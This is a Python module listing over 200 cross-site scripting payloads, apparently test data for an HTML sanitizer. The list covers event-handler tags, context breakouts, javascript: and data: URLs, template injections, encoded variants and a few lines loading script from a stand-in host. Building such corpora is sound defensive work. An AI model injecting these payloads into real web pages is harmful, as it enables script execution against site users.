"""What strangers try, to have a page run what they wrote. Each that runs calls `alert`; 200 and some, all different."""

from __future__ import annotations

from itertools import product

# Elements that run something by themselves, or when touched.
_ELEMENTS = """
<script>alert(1)</script>
<script src=//x.example/x.js></script>
<script src="data:text/javascript,alert(1)"></script>
<ScRiPt>alert(1)</sCrIpT>
<script type=module>alert(1)</script>
<script>alert`1`</script>
<script/x>alert(1)</script>
<script>/*</script>*/alert(1)
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror=&#97;lert(1)>
<IMG SRC=x OnErRoR=alert(1)>
<img src=x:x onerror=window.alert(1)//
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href=javascript:alert(1)>x</math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<button autofocus onfocus=alert(1)>x</button>
<a href=javascript:alert(1) autofocus onfocus=alert(1) tabindex=1>x</a>
<div tabindex=1 autofocus onfocus=alert(1)>x</div>
<marquee onstart=alert(1)>x</marquee>
<style>@import'javascript:alert(1)';</style>
<style>*{background:url(javascript:alert(1))}</style>
<style onload=alert(1)></style>
<link rel=stylesheet href=data:,*{x:expression(alert(1))}>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<base href=javascript:alert(1)//>
<form action=javascript:alert(1)><button autofocus>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex action=javascript:alert(1) type=image>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<p style="animation:x" onanimationstart=alert(1)>x</p>
<x onclick=alert(1) id=x tabindex=1>x</x>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<portal src=javascript:alert(1)></portal>
""".strip().split("\n")

# Out of an attribute, an element, a comment, a script, first; then in.
_BREAKS = [
    '"',
    "'",
    '">',
    "'>",
    "`",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</mark></p>",
    '\\"',
    "\\'",
]
_BEHIND = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    " autofocus onfocus=alert(1) x=",
    " onmouseover=alert(1) ",
]

# What a template, a script, a URL or a decoder might take for its own.
_OTHERS = """
javascript:alert(1)
JaVaScRiPt:alert(1)
java&#115;cript:alert(1)
javascript&colon;alert(1)
javascript://example.com/%0aalert(1)
java%0ascript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:alert(1)
//x.example/x.js
{{7*7}}{{alert(1)}}
{{constructor.constructor('alert(1)')()}}
{% print(alert) %}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
[[${alert(1)}]]
';alert(1)//
";alert(1)//
\\';alert(1)//
</script ><script>alert(1)</script>
*/alert(1)/*
`-alert(1)-`
'-alert(1)-'
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
<\u0130mg src=x onerror=alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script\u00a0>alert(1)</script>
<img src=x\u2028onerror=alert(1)>
<a href="&#x6a;avascript:alert(1)" autofocus onfocus="alert(1)">x</a>
<!--<img src="--><img src=x onerror=alert(1)>">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>
<title><img src=x onerror=alert(1)></title>
jaVasCript:/*-/*`/*\\`/*'/*"/**/(//oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(1)//>
""".strip().split("\n")

PAYLOADS = [
    *_ELEMENTS,
    *(first + then for first, then in product(_BREAKS, _BEHIND)),
    *_OTHERS,
    *(
        f"https://example.com/{one}"
        for one in ('"onmouseover=alert(1) x="', "'><script>alert(1)</script>", "<svg/onload=alert(1)>")
    ),
    *(f"{one} x" for one in _ELEMENTS[8:28]),
]
